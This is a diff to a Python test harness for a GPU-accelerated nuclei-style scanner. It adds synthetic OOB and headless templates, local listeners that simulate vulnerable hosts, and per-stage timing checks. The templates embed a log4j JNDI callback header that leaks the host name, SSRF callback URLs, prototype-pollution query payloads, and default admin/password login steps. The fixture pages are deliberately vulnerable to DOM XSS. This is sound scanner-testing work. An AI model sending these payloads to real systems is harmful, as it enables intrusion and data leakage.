@@ -140,6 +140,18 @@ prints one JSON line per phase:
    ``device="cpu"`` twin, workflow lines in each, the verdict kernel's
    m_value written and rows carrying gate planes; the corpus compile's
    cold and warm build through the compile cache.
+18. ``active_worker`` — a ``nuclei`` job (the ``active`` backend) at the
+   match corpus's width against local path-routing listeners, pipeline
+   off and on and traced (see :func:`phase_active_worker`).
+19. ``oob_headless_worker`` — a ``nuclei-oob`` job over that corpus with
+   144 OOB templates and the headless templates, against listeners
+   that call the OOB listener back or serve the headless pages:
+   seconds by stage (the drain's wait and match, the headless round
+   and its join), the drain's ``oobp``/``oobr`` widths on the card, its
+   kernel calls exact, lines equal to the CPU run's (see
+   :func:`phase_oob_headless_worker`).
+20. ``file_worker``, ``command_worker`` — a ``file`` job and an ``echo``
+   job through the worker.
 
 Each phase's compile cache (``SWARM_DB_CACHE_DIR``) lies in a temporary
 directory of the run. Then the ``{"kernels": [...]}`` summary (all
@@ -1120,18 +1132,26 @@ class PathFleet:
             with conn:
                 try:
                     conn.settimeout(5.0)
-                    data = b""
-                    while b"\r\n\r\n" not in data and len(data) < 65536:
-                        chunk = conn.recv(4096)
-                        if not chunk or not data and not chunk[:1].isalpha():
-                            data = b""
-                            break
-                        data += chunk
-                    words = data.split(b"\r\n", 1)[0].decode("latin-1").split()
-                    if len(words) >= 2:
-                        conn.sendall(self.reply(k, words[0], words[1]))
+                    self._handle(k, conn)
                 except OSError:
                     pass
+
+    @staticmethod
+    def _read_head(conn: socket.socket) -> bytes:
+        """A request's head and what came with it; b"" for a client that
+        sends nothing or bytes that are not an HTTP request."""
+        data = b""
+        while b"\r\n\r\n" not in data and len(data) < 65536:
+            chunk = conn.recv(4096)
+            if not chunk or not data and not chunk[:1].isalpha():
+                return b""
+            data += chunk
+        return data
+
+    def _handle(self, k: int, conn: socket.socket) -> None:
+        words = self._read_head(conn).split(b"\r\n", 1)[0].decode("latin-1").split()
+        if len(words) >= 2:
+            conn.sendall(self.reply(k, words[0], words[1]))
 
     def close(self) -> None:
         self._stop.set()
@@ -1145,6 +1165,390 @@ class PathFleet:
 
     def __exit__(self, *exc) -> None:
         self.close()
+
+
+# ---------------------------------------------------------------------------
+# The OOB and headless job's corpus and listeners
+
+#: templates of the reference corpus with an ``interactsh_protocol``
+#: matcher (SURVEY.md:116), the domain the job's OOB listener answers
+#: for, and the User-Agent of a vulnerable listener's HTTP callback
+OOB_TEMPLATES, OOB_DOMAIN, OOB_CLIENT = 144, "oob.chip.test", "chip-oob-client/1.0"
+#: one (listener, OOB path) pair in ``OOB_VULNERABLE`` calls back
+OOB_VULNERABLE = 3
+#: the headless templates the reference executes (one an idiom of
+#: ``swarm_tpu/worker/headless.py:1-80``) and the js-required one it skips
+HEADLESS_RUN, HEADLESS_SKIP = 9, 1
+
+_PP_HOOK = """() => {
+  window.alerts = [];
+  function logger(found) { window.alerts.push(found); }
+  function check() {
+    var loc = location.href;
+    if (loc.indexOf("e32a5ec9c99") >= 0 && loc.search("a0def12bce") == -1) {
+      setTimeout(function() {
+        if (Object.prototype.e32a5ec9c99 == "ddcb362f1d60") { logger(location.href); }
+        var url = new URL(location.origin + location.pathname);
+        url.hash = '__proto__[a0def12bce]=ddcb362f1d60&__proto__.a0def12bce=ddcb362f1d60&dummy';
+        location = url.href;
+      }, 5000);
+    } else if (loc.search("a0def12bce") != -1) {
+      setTimeout(function() {
+        if (Object.prototype.a0def12bce == "ddcb362f1d60") { logger(location.href); }
+      }, 5000);
+    } else {
+      var url = new URL(location.href);
+      url.searchParams.append('__proto__[e32a5ec9c99]', 'ddcb362f1d60');
+      url.searchParams.append('__proto__.e32a5ec9c99', 'ddcb362f1d60');
+      location = url.href;
+    }
+  }
+  window.onload = function() { check(); };
+}"""
+
+_HOOKS = {
+    "postmessage-tracker": """() => {
+  window.alerts = [];
+  function logger(found) { window.alerts.push(found); }
+  var oldListener = Window.prototype.addEventListener;
+  Window.prototype.addEventListener = function(type, listener, useCapture) {
+    if (type === 'message') { logger(new Error('').stack); }
+    return oldListener.apply(this, arguments);
+  };
+}""",
+    "postmessage-outgoing-tracker": """() => {
+  window.alerts = [];
+  var oldPost = window.postMessage;
+  window.postMessage = function(message, origin) {
+    if (origin === "*") { window.alerts.push({args: {origin: origin}, stack: new Error('').stack}); }
+    return oldPost.apply(this, arguments);
+  };
+}""",
+    "window-name-domxss": """() => {
+  window.alerts = [];
+  function check(sink, code) {
+    if (code.indexOf(window.name) !== -1) {
+      window.alerts.push({sink: sink, source: 'window.name', code: code});
+    }
+  }
+  var oldEval = window.eval;
+  window.eval = function(code) { check('eval', code); return oldEval(code); };
+  var oldWrite = document.write;
+  document.write = function(code) { check('document.write', code); return oldWrite.call(document, code); };
+  window.name = "chip-window-name";
+}""",
+    "location-domxss": """() => {
+  window.alerts = [];
+  var sources = [location.hash, location.search];
+  var desc = Object.getOwnPropertyDescriptor(Element.prototype, 'innerHTML');
+  Object.defineProperty(Element.prototype, 'innerHTML', {set: function(v) {
+    sources.forEach(function(s) {
+      if (s && v.indexOf(s.slice(1)) !== -1) { window.alerts.push({sink: 'innerHTML', source: s, code: v}); }
+    });
+    return desc.set.call(this, v);
+  }});
+}""",
+}
+
+_ATTR_COLLECT = ("() => {\n return '\\n' + [...new Set(Array.from(document.querySelectorAll("
+                 "'[src], [href], [url], [action]')).map(i => i.src || i.href || i.url || "
+                 "i.action))].join('\\r\\n') + '\\n'\n}")
+
+
+def _hl_doc(name: str, steps: list, matchers: list = (), extractors: list = (),
+            severity: str = "info") -> dict:
+    op = {"steps": steps}
+    if matchers:
+        op["matchers"] = list(matchers)
+    if extractors:
+        op["extractors"] = list(extractors)
+    return {"id": f"chip-hl-{name}", "info": {"name": name, "severity": severity},
+            "headless": [op]}
+
+
+def _nav(path: str) -> dict:
+    return {"action": "navigate", "args": {"url": "{{BaseURL}}" + path}}
+
+
+def _alerts_doc(name: str, path: str, hook: str, word: str) -> dict:
+    """A hook template as the reference corpus writes them: the response
+    CSP relaxed, the hook installed, the page loaded, ``window.alerts``
+    read back, a word matcher and a kval extractor over it."""
+    return _hl_doc(name, [
+        {"action": "setheader", "args": {"part": "response", "key": "Content-Security-Policy",
+                                         "value": "default-src * 'unsafe-inline'"}},
+        {"action": "script", "args": {"hook": True, "code": hook}},
+        _nav(path), {"action": "waitload"},
+        {"action": "script", "name": "alerts", "args": {"code": "window.alerts"}},
+    ], [{"type": "word", "part": "alerts", "words": [word]}],
+        [{"type": "kval", "part": "alerts", "kval": ["alerts"]}])
+
+
+def headless_docs() -> list:
+    """One headless template for each idiom the reference executes
+    (``HEADLESS_RUN``: the form login, URL attribute collection, the
+    postMessage and outgoing trackers, window.name and location DOM-XSS,
+    prototype pollution, the RevealJS version check, a screenshot
+    nothing reads), each on a page of :func:`headless_reply`, and one
+    js-required template it reports ``[headless-skipped]``."""
+    form = "/html/body/div/div[2]/form/fieldset/"
+    return [
+        _hl_doc("form-login", [
+            _nav("/hl/login.php"), {"action": "waitload"},
+            {"action": "click", "args": {"by": "x", "xpath": form + "input"}},
+            {"action": "text", "args": {"by": "x", "value": "admin", "xpath": form + "input"}},
+            {"action": "text", "args": {"by": "x", "value": "password",
+                                        "xpath": form + "input[2]"}},
+            {"action": "click", "args": {"by": "x", "xpath": form + "p/input"}},
+            {"action": "waitload"},
+        ], [{"type": "word", "part": "resp", "words": ["You have logged in as"]}],
+            severity="high"),
+        _hl_doc("extract-urls", [
+            _nav("/hl/urls"), {"action": "waitload"},
+            {"action": "script", "name": "extract", "args": {"code": _ATTR_COLLECT}},
+        ], extractors=[{"type": "kval", "part": "extract", "kval": ["extract"]}]),
+        _alerts_doc("postmessage-tracker", "/hl/hooks", _HOOKS["postmessage-tracker"],
+                    "at Window.addEventListener"),
+        _alerts_doc("postmessage-outgoing-tracker", "/hl/hooks",
+                    _HOOKS["postmessage-outgoing-tracker"], "at window.postMessage"),
+        _alerts_doc("window-name-domxss", "/hl/hooks", _HOOKS["window-name-domxss"],
+                    "source:window.name"),
+        _alerts_doc("location-domxss", "/hl/hooks", _HOOKS["location-domxss"],
+                    "source:location.hash"),
+        _alerts_doc("prototype-pollution-check", "/hl/pp", _PP_HOOK, "__proto__"),
+        _hl_doc("revealjs-version", [
+            _nav("/hl/reveal"), {"action": "waitload"},
+            {"action": "script", "name": "revealjs", "args": {
+                "code": '() => {\n  return (Reveal.VERSION <= "3.8.0" || Reveal.VERSION < "4.3.0")\n}'}},
+        ], [{"type": "word", "part": "revealjs", "words": ["true"]}], severity="medium"),
+        _hl_doc("screenshot", [
+            _nav("/hl/shot"), {"action": "waitload"},
+            {"action": "screenshot", "args": {"fullpage": True}},
+        ], [{"type": "word", "part": "resp", "words": ["chip-shot-ok"]}]),
+        _hl_doc("js-required", [
+            _nav("/hl/shot"),
+            {"action": "script", "args": {"hook": True, "code": "() => window.foo"}},
+            {"action": "script", "name": "alerts", "args": {"code": "window.alerts"}},
+        ], [{"type": "word", "part": "alerts", "words": ["foo"]}]),
+    ]
+
+
+_HL_LOGIN = b"""<html><body><div><div>x</div><div>
+<form action="login.php" method="post">
+<fieldset>
+<input type="text" name="username">
+<input type="password" name="password">
+<p><input type="submit" name="Login" value="Login"></p>
+</fieldset>
+<input type="hidden" name="user_token" value="tok123">
+</form>
+</div></div></body></html>"""
+
+_HL_PAGES = {
+    "/hl/urls": b'<html><head><script src="/hl/static/app.js"></script></head><body>'
+                b'<a href="https://other.example/x">x</a><a href="/hl/rel/page">y</a>'
+                b'<form action="/hl/post/here"></form><img src="/hl/static/app.js"></body></html>',
+    "/hl/static/app.js": b"eval(window.name); console.log('app');",
+    "/hl/hooks": b"""<html><head><script src="/hl/static/app.js"></script>
+<script>
+  window.addEventListener('message', function (e) { handle(e.data); });
+</script>
+</head><body onmessage="route(event)">
+<iframe id=f src="/hl/child"></iframe><div id=out></div>
+<script>
+  var f = document.getElementById('f');
+  f.contentWindow.postMessage({hello: 1}, '*');
+  var payload = window.name;
+  document.getElementById('f').innerHTML = '<b>' + payload + '</b>';
+  var frag = location.hash.slice(1);
+  document.getElementById('out').innerHTML = frag;
+</script>
+</body></html>""",
+    "/hl/pp": b"""<html><head><script>
+var params = {};
+var q = location.search.substring(1);
+q.split('&').forEach(function(pair) {
+  var kv = pair.split('=');
+  var keys = kv[0].split('[').map(function(s){return s.replace(']','');});
+  var obj = params;
+  for (var i = 0; i < keys.length - 1; i++) {
+    if (!obj[keys[i]]) { obj[keys[i]] = {}; }
+    obj = obj[keys[i]];
+  }
+  obj[keys[keys.length-1]] = decodeURIComponent(kv[1] || '');
+});
+</script></head><body>app</body></html>""",
+    "/hl/reveal": b'<html><head><script src="/hl/dist/reveal.js"></script></head>'
+                  b'<body class="reveal">slides</body></html>',
+    "/hl/dist/reveal.js": b"/*! reveal.js 4.2.1 */\nvar t=\"4.2.1\";\nconst VERSION = '4.2.1';\n"
+                          b"var Reveal = {VERSION: VERSION, initialize: function(){}};\n"
+                          b"window.Reveal = Reveal;\n",
+    "/hl/shot": b"<html><body>chip-shot-ok</body></html>",
+}
+
+
+def headless_reply(method: str, path: str, data: bytes) -> bytes:
+    """What the headless listener answers to a request for ``path``
+    (``data``: the request's head and body): the pages of
+    :func:`headless_docs`, a form login (``login.php``: admin/password
+    and its hidden token set a session cookie and redirect to
+    ``index.php``, which greets only the cookie's holder), else a
+    short 404."""
+    route = path.split("?", 1)[0]
+    extra = b""
+    if route == "/hl/login.php" and method == "POST":
+        body = data.split(b"\r\n\r\n", 1)[-1]
+        if all(f in body for f in (b"username=admin", b"password=password",
+                                   b"user_token=tok123", b"Login=Login")):
+            return (b"HTTP/1.1 302 Found\r\nSet-Cookie: PHPSESSID=s3cr3t; path=/\r\n"
+                    b"Location: /hl/index.php\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+        status, page = 200, b"Login failed"
+    elif route == "/hl/login.php":
+        status, page = 200, _HL_LOGIN
+    elif route == "/hl/index.php":
+        status, page = 200, (b"<html>You have logged in as admin</html>"
+                             if b"PHPSESSID=s3cr3t" in data else b"<html>please log in</html>")
+    elif route in _HL_PAGES:
+        status, page = 200, _HL_PAGES[route]
+        if route.endswith(".js"):
+            extra = b"Content-Type: text/javascript\r\n"
+    else:
+        status, page = 404, b"<html>not here</html>"
+    return (b"HTTP/1.1 %d X\r\n%sContent-Length: %d\r\nConnection: close\r\n\r\n%s"
+            % (status, extra, len(page), page))
+
+
+def oob_headless_corpus(seed: int = 0) -> tuple[list, list, dict]:
+    """:func:`active_corpus` with ``OOB_TEMPLATES`` of its templates
+    (none on the bare base URL, none a workflow gates on) turned into
+    interactsh templates of the two shapes the reference matches
+    (``swarm_tpu/worker/oob.py:7-8``), each on a path of its own: even
+    ones an SSRF-style HTTP callback (``url=http://{{interactsh-url}}/``,
+    ``interactsh_protocol`` "http"; one in three also an
+    ``interactsh_request`` word, the callback's User-Agent; one in five
+    a regex extractor of the token), odd ones a log4j-style DNS lookup
+    (a JNDI header; "dns"; one in three an ``interactsh_ip`` extractor,
+    one in five an ``interactsh_request`` regex over the qname), then
+    :func:`headless_docs`. → (docs, plants, {template id: (path name,
+    shape)})."""
+    docs, plants = active_corpus(seed)
+    gated = {i for picks in _wf_corpus_picks(plants) for i in picks}
+    pool = [i for i, d in enumerate(docs)
+            if i not in gated and d["http"][0]["path"] != ["{{BaseURL}}"]]
+    rng = np.random.default_rng(seed + 2000)
+    oob = {}
+    for j, i in enumerate(sorted(int(x) for x in rng.choice(pool, OOB_TEMPLATES, replace=False))):
+        name = f"oob-{j:03d}"
+        if j % 2 == 0:
+            shape = "http"
+            op = {"method": "GET",
+                  "path": ["{{BaseURL}}/" + name + "/fetch?url=http://{{interactsh-url}}/"],
+                  "matchers": [{"type": "word", "part": "interactsh_protocol", "words": ["http"]}]}
+            if j % 3 == 0:
+                op["matchers"].append({"type": "word", "part": "interactsh_request",
+                                       "words": [OOB_CLIENT.split("/")[0]]})
+            if j % 5 == 0:
+                op["extractors"] = [{"type": "regex", "part": "interactsh_request",
+                                     "regex": ["si[0-9a-f]{14}"]}]
+        else:
+            shape = "dns"
+            op = {"method": "GET", "path": ["{{BaseURL}}/" + name + "/api"],
+                  "headers": {"X-Api-Version": "${jndi:ldap://${hostName}.{{interactsh-url}}/a}"},
+                  "matchers": [{"type": "word", "part": "interactsh_protocol", "words": ["dns"]}]}
+            if j % 3 == 1:
+                op["extractors"] = [{"type": "kval", "kval": ["interactsh_ip"]}]
+            if j % 5 == 1:
+                op["matchers"].append({"type": "regex", "part": "interactsh_request",
+                                       "regex": [r"si[0-9a-f]{14}\." + re.escape(OOB_DOMAIN)]})
+        op["matchers-condition"] = "and"
+        tid = f"chip-oob-{j:03d}-{shape}"
+        docs[i] = {"id": tid, "info": {"name": f"blind {shape} interaction {j}",
+                                       "severity": ("high", "critical")[j % 2],
+                                       "tags": "oob,synthetic"}, "http": [op]}
+        oob[tid] = (name, shape)
+    return docs + headless_docs(), plants, oob
+
+
+def oob_vulnerable(k: int, name: str) -> bool:
+    """Whether listener ``k`` calls back on the OOB path ``name``."""
+    h = int.from_bytes(hashlib.md5(f"oob:{k}:{name}".encode()).digest()[:8], "little")
+    return h % OOB_VULNERABLE == 0
+
+
+_OOB_PATH_RE = re.compile(r"^/(oob-\d{3})/")
+_SSRF_RE = re.compile(rb"url=http://([^/\s:]+)(?::(\d+))?(/\S*)?")
+_JNDI_RE = re.compile(rb"\$\{jndi:ldap://\$\{hostName\}\.([^/:}\s]+)")
+
+
+def dns_query(qname: bytes, port: int, tid: int = 0x4242) -> bytes:
+    """One A query for ``qname`` to 127.0.0.1:``port`` → the reply."""
+    q = struct.pack(">HHHHHH", tid, 0x0100, 1, 0, 0, 0)
+    for label in qname.split(b"."):
+        q += bytes([len(label)]) + label
+    q += b"\x00" + struct.pack(">HH", 1, 1)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.settimeout(3.0)
+        s.sendto(q, ("127.0.0.1", port))
+        return s.recvfrom(512)[0]
+
+
+class OobFleet(PathFleet):
+    """:class:`PathFleet` with OOB paths and a headless listener:
+    listener ``headless`` answers ``/hl/`` paths with
+    :func:`headless_reply`; on an OOB path (``/oob-NNN/``) a listener
+    for which :func:`oob_vulnerable` holds first calls the token URL in
+    the request back (an HTTP GET to the URL's port, the token host in
+    its Host header) or resolves the JNDI header's host against the OOB
+    listener's DNS port ``dns_port``, and every listener then answers
+    as ``reply`` does, with the request's tokens masked, so that a
+    token never changes what a listener answers."""
+
+    def __init__(self, listeners: int, reply, dns_port: int, headless: int):
+        from swarm_tpu_torch.worker.oob import _TOKEN_RE
+
+        self.dns_port, self.headless, self._token_re = dns_port, headless, _TOKEN_RE
+        self.callbacks = 0
+        self._lock = threading.Lock()  # guards: callbacks (listener threads)
+        super().__init__(listeners, reply)
+
+    def _handle(self, k: int, conn: socket.socket) -> None:
+        data = self._read_head(conn)
+        head = data.split(b"\r\n\r\n", 1)[0]
+        m = re.search(rb"(?im)^content-length:\s*(\d+)", head)
+        while m and len(data) - len(head) - 4 < int(m.group(1)):
+            chunk = conn.recv(4096)
+            if not chunk:
+                break
+            data += chunk
+        words = head.split(b"\r\n", 1)[0].decode("latin-1").split()
+        if len(words) < 2:
+            return
+        method, path = words[0], words[1]
+        if k == self.headless and path.startswith("/hl/"):
+            conn.sendall(headless_reply(method, path, data))
+            return
+        oob = _OOB_PATH_RE.match(path)
+        if oob and oob_vulnerable(k, oob.group(1)):
+            self._call_back(head)
+        masked = self._token_re.sub(b"si-token", path.encode("latin-1")).decode("latin-1")
+        conn.sendall(self.reply(k, method, masked))
+
+    def _call_back(self, head: bytes) -> None:
+        ssrf = _SSRF_RE.search(head.split(b"\r\n", 1)[0])
+        jndi = _JNDI_RE.search(head)
+        if ssrf:
+            host, port, path = ssrf.group(1), int(ssrf.group(2) or 80), ssrf.group(3) or b"/"
+            with socket.create_connection(("127.0.0.1", port), timeout=5.0) as s:
+                s.sendall(b"GET %s HTTP/1.1\r\nHost: %s:%d\r\nUser-Agent: %s\r\n"
+                          b"Connection: close\r\n\r\n" % (path, host, port, OOB_CLIENT.encode()))
+                while s.recv(4096):
+                    pass
+        elif jndi:
+            dns_query(b"chip-host." + jndi.group(1), self.dns_port)
+        else:
+            return
+        with self._lock:
+            self.callbacks += 1
 
 
 #: the reference's recorded file corpus (swarm_tpu/worker/filescan.py:1-16):
@@ -3696,6 +4100,292 @@ def phase_active_worker(smi: str) -> dict:
     return launches["off"]
 
 
+class oob_clock:
+    """Seconds of an OOB and headless job's stages, by wrapping what the
+    scanner calls: liveness (``_liveness``), the waves (``_run_wave``),
+    the headless round (``HeadlessScanner._run_round``, on its
+    coordinator thread; its targets and hits kept) and its join (the
+    round future's ``result``), the drain's wait (from the join, or the
+    last wave, to the first ``OOBListener.poll``) and its match (the
+    ``_attribute`` call after it: rows, the engine's device rows and
+    batches, kernel calls ``calls[first:last]`` of the recorded list,
+    launches, and each ``DeviceDB.dispatch``'s rows and ``oobp`` /
+    ``oobr`` widths). The scanner's stats are kept too."""
+
+    def __init__(self, calls: list):
+        self.calls = calls
+
+    def __enter__(self):
+        from swarm_tpu_torch.ops import kernels
+        from swarm_tpu_torch.ops.match import DeviceDB
+        from swarm_tpu_torch.worker import active, headless, oob
+
+        s = self.s = {"liveness_s": 0.0, "waves_s": 0.0, "headless_round_s": 0.0,
+                      "headless_join_s": 0.0, "drain_wait_s": 0.0, "drain_match_s": 0.0}
+        self.drain = {"rows": 0, "device_rows": 0, "engine_batches": 0, "batches": [],
+                      "calls": [0, 0], "launches": {}}
+        self.round = None
+        self.stats = None
+        state = {"mark": None, "polled": False, "draining": False}
+        self._saved = []
+
+        def timed(key, fn):
+            def run(*args, **kw):
+                t0 = time.perf_counter()
+                try:
+                    return fn(*args, **kw)
+                finally:
+                    s[key] += time.perf_counter() - t0
+                    state["mark"] = time.perf_counter()
+            return run
+
+        def run_round(fn):
+            def run(sc, targets):
+                t0 = time.perf_counter()
+                hits = fn(sc, targets)
+                s["headless_round_s"] += time.perf_counter() - t0
+                self.round = (sc, list(targets), hits)
+                return hits
+            return run
+
+        def run_async(fn):
+            def run(sc, targets):
+                fut = fn(sc, targets)
+                result = fut.result
+
+                def joined(*args, **kw):
+                    t0 = time.perf_counter()
+                    try:
+                        return result(*args, **kw)
+                    finally:
+                        s["headless_join_s"] += time.perf_counter() - t0
+                        state["mark"] = time.perf_counter()
+                fut.result = joined
+                return fut
+            return run
+
+        def poll(fn):
+            def run(lst, token):
+                if not state["polled"]:
+                    state["polled"] = True
+                    s["drain_wait_s"] += time.perf_counter() - state["mark"]
+                return fn(lst, token)
+            return run
+
+        def attribute(fn):
+            def run(sc, rows, meta, owners):
+                if not state["polled"] or state["draining"]:
+                    return fn(sc, rows, meta, owners)
+                st = sc.engine.stats
+                before = (st.unique_rows, st.batches, dict(kernels.LAUNCHES), len(self.calls))
+                state["draining"] = True
+                t0 = time.perf_counter()
+                try:
+                    return fn(sc, rows, meta, owners)
+                finally:
+                    s["drain_match_s"] += time.perf_counter() - t0
+                    state["draining"] = False
+                    self.drain.update(
+                        rows=len(rows), device_rows=st.unique_rows - before[0],
+                        engine_batches=st.batches - before[1], calls=[before[3], len(self.calls)],
+                        launches={k: v - before[2][k] for k, v in kernels.LAUNCHES.items()})
+            return run
+
+        def dispatch(fn):
+            def run(db, streams, lengths, status):
+                if state["draining"]:
+                    self.drain["batches"].append({
+                        "rows": int(streams["body"].shape[0]),
+                        "oobp_width": int(streams["oobp"].shape[1]),
+                        "oobr_width": int(streams["oobr"].shape[1])})
+                return fn(db, streams, lengths, status)
+            return run
+
+        def scan_run(fn):
+            def run(*args, **kw):
+                hits, stats = fn(*args, **kw)
+                self.stats = stats
+                return hits, stats
+            return run
+
+        for owner, name, wrap in (
+            (active.ActiveScanner, "_liveness", lambda fn: timed("liveness_s", fn)),
+            (active.ActiveScanner, "_run_wave", lambda fn: timed("waves_s", fn)),
+            (active.ActiveScanner, "_attribute", attribute),
+            (active.ActiveScanner, "run", scan_run),
+            (headless.HeadlessScanner, "_run_round", run_round),
+            (headless.HeadlessScanner, "run_async", run_async),
+            (oob.OOBListener, "poll", poll),
+            (DeviceDB, "dispatch", dispatch),
+        ):
+            fn = getattr(owner, name)
+            self._saved.append((owner, name, fn))
+            setattr(owner, name, wrap(fn))
+        return self
+
+    def __exit__(self, *exc):
+        for owner, name, fn in reversed(self._saved):
+            setattr(owner, name, fn)
+
+
+def _oob_fired(text: str, listeners: list) -> set:
+    """(listener index, template id) of the OOB lines of ``text``."""
+    fired = set()
+    for m in re.finditer(r"^\[(chip-oob-\d{3}-(?:http|dns))\] \[http\] \[\w+\] "
+                         r"http://127\.0\.0\.1:(\d+)/", text, re.M):
+        fired.add((listeners.index(f"127.0.0.1:{m.group(2)}"), m.group(1)))
+    return fired
+
+
+def phase_oob_headless_worker(smi: str) -> dict:
+    """The ``active`` backend's OOB listener and headless execution on
+    the card: a ``nuclei-oob``-shaped job (``modules/nuclei-oob.json``:
+    its listener on the DNS port the fleet is told, the domain form
+    ``OOB_DOMAIN``, ``poll_s`` at its 3.0) over
+    :func:`oob_headless_corpus` (3,989 templates, 144 of them OOB, plus
+    the headless templates) and the 4 workflows, against
+    ``ACTIVE_LISTENERS`` listeners of :class:`OobFleet` (one in
+    ``OOB_VULNERABLE`` (listener, OOB path) pairs calls back; the last
+    listener serves the headless pages), pipeline on, under the
+    profiler (the card's idle share over the job), the corpus's engine
+    built before it. The job must end ``complete``; its lines, the
+    tokens in its extractions masked, equal the same job on the CPU in
+    this process; every OOB template fires on its vulnerable pairs and
+    on no patched one; the drain's rows reach the card in batches whose
+    ``oobp`` and ``oobr`` are wider than 1; every kernel call of the
+    job, the drain's included, equals its plain version; the headless
+    round's hits equal a serial round of the same scanner. → launches."""
+    import tempfile
+
+    from swarm_tpu_torch.fingerprints.nuclei import parse_template
+    from swarm_tpu_torch.ops import kernels
+    from swarm_tpu_torch.ops.engine import MatchEngine
+    from swarm_tpu_torch.worker import headless
+    from swarm_tpu_torch.worker.oob import _TOKEN_RE
+    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig
+
+    t_phase = time.perf_counter()
+    use_db_cache("oob")
+    docs, plants, oob = oob_headless_corpus(0)
+    docs = docs + workflow_docs(docs, plants)
+    templates = [parse_template(d) for d in docs]
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
+        u.bind(("0.0.0.0", 0))
+        dns_port = u.getsockname()[1]
+    hl = ACTIVE_LISTENERS - 1
+    reply = active_replies(docs, plants, ACTIVE_LISTENERS)
+    with tempfile.TemporaryDirectory() as tmp, \
+            OobFleet(ACTIVE_LISTENERS, reply, dns_port, headless=hl) as fleet:
+        corpus, modules = Path(tmp) / "corpus", Path(tmp) / "modules"
+        corpus.mkdir()
+        modules.mkdir()
+        try:
+            import yaml
+
+            dumper = getattr(yaml, "CSafeDumper", yaml.SafeDumper)
+            for doc in docs:
+                (corpus / f"{doc['id']}.yaml").write_text(yaml.dump(doc, Dumper=dumper))
+            route = "yaml"
+        except ImportError:
+            route = "engine_cache"
+        spec = json.loads((REPO / "modules" / "nuclei-oob.json").read_text())
+        spec["templates"] = str(corpus)
+        spec["probe"] = {**spec["probe"], "resolvers": ["127.0.0.1"], "read_timeout_ms": 2500,
+                         "oob": {**spec["probe"]["oob"], "dns_port": dns_port,
+                                 "domain": OOB_DOMAIN}}
+        if spec["probe"]["oob"]["poll_s"] != 3.0:
+            raise AssertionError("nuclei-oob: the module's poll window is not 3.0 s")
+        (modules / "nuclei-oob.json").write_text(json.dumps(spec))
+        blob = ("\n".join(fleet.targets) + "\n").encode()
+        procs, engine_s = {}, {}
+        for device in ("cuda", "cpu"):
+            cfg = WorkerConfig(api_key=API_KEY, worker_id="chip-smoke", modules_dir=str(modules),
+                               max_jobs=1, pipeline="on", poll_interval_idle_s=0.05,
+                               poll_interval_busy_s=0.0)
+            procs[device] = proc = JobProcessor(cfg, device=device)
+            t0 = time.perf_counter()
+            if route == "engine_cache":
+                proc.engines[str(corpus)] = MatchEngine(templates, device=device, pipeline="on")
+            proc.engine_for(str(corpus))
+            engine_s[device] = time.perf_counter() - t0
+        set_up_s = time.perf_counter() - t_phase
+        kernels.reset_launches()
+        out = []
+        t0 = time.perf_counter()
+        with kernels.record_calls() as calls, oob_clock(calls) as clock:
+            trace = profile_call(lambda: out.append(worker_job(procs["cuda"], "nuclei-oob", blob)),
+                                 "oob.job", ())
+        traced_s = time.perf_counter() - t0
+        launches = dict(kernels.LAUNCHES)
+        output, seconds, perf = out[0]
+        callbacks = fleet.callbacks
+        sc, live, pooled = clock.round
+        headless.configure_headless(0)
+        try:
+            serial = sc.run(live)
+        finally:
+            headless.configure_headless(None)
+        t0 = time.perf_counter()
+        twin = worker_job(procs["cpu"], "nuclei-oob", blob)[0]
+        twin_s = time.perf_counter() - t0
+    if _TOKEN_RE.sub(b"si-token", output) != _TOKEN_RE.sub(b"si-token", twin):
+        raise AssertionError("nuclei-oob: the card's lines differ from the CPU run")
+    if serial != pooled:
+        raise AssertionError("nuclei-oob: the pooled headless round differs from the serial one")
+    text = output.decode()
+    fired = _oob_fired(text, fleet.targets)
+    want = {(k, tid) for tid, (name, _shape) in oob.items() for k in range(ACTIVE_LISTENERS)
+            if oob_vulnerable(k, name)}
+    if fired != want:
+        raise AssertionError(f"nuclei-oob: OOB lines on {len(fired)} pairs, "
+                             f"{len(fired - want)} patched, {len(want - fired)} vulnerable missed")
+    hl_target = fleet.targets[hl]
+    hl_fired = {m.group(1) for m in re.finditer(
+        r"^\[(chip-hl-[\w-]+)\] \[headless\] \[\w+\] " + re.escape(hl_target) + r"( |$)", text,
+        re.M)}
+    hl_want = {d["id"] for d in headless_docs()[:HEADLESS_RUN]}
+    if hl_fired != hl_want or "# [chip-hl-js-required] [headless-skipped]" not in text:
+        raise AssertionError(f"nuclei-oob: headless lines {sorted(hl_fired)}")
+    drain = clock.drain
+    wp = max((b["oobp_width"] for b in drain["batches"]), default=0)
+    wr = max((b["oobr_width"] for b in drain["batches"]), default=0)
+    if not drain["device_rows"] or wp <= 1 or wr <= 1:
+        raise AssertionError(f"nuclei-oob: the drain did not reach the card: {drain}")
+    t0 = time.perf_counter()
+    max_err = check_calls(calls)
+    check_s = time.perf_counter() - t0
+    drain_calls = {}
+    for name, _args in calls[drain["calls"][0]:drain["calls"][1]]:
+        drain_calls[name] = drain_calls.get(name, 0) + 1
+    need = ("match_phase_a", "match_verify", "match_regex_scan", "match_verdicts")
+    missing = [k for k in need if not drain_calls.get(k)]
+    if missing:
+        raise AssertionError(f"nuclei-oob: the drain made no call of {missing}")
+    stats = clock.stats
+    emit({
+        "phase": "oob_headless_worker", "status": "complete", "route": route,
+        "templates": len(templates), "oob_templates": len(oob),
+        "headless_templates": stats["headless_templates"], "listeners": ACTIVE_LISTENERS,
+        "poll_s": spec["probe"]["oob"]["poll_s"], "lines": len(text.splitlines()),
+        "oob_lines": len(fired), "vulnerable_pairs": len(want), "callbacks": callbacks,
+        "headless_lines_on_its_listener": len(hl_fired),
+        "oob_probes": stats["oob_probes"], "oob_interactions": stats["oob_interactions"],
+        "headless_hits": stats["headless_hits"], "headless_serial_identical": len(serial),
+        "perf_fields": {k: perf[k] for k in ("targets", "live_targets", "rows_probed",
+                                              "oob_probes", "oob_interactions", "hits")},
+        "seconds": seconds, "engine_build_s": engine_s, "stages": clock.s,
+        "drain": {**drain, "kernel_calls": drain_calls, "max_oobp_width": wp,
+                  "max_oobr_width": wr},
+        "sched": perf.get("sched"), "launches": launches, "max_abs_err": max_err,
+        "kernel_calls_checked": len(calls),
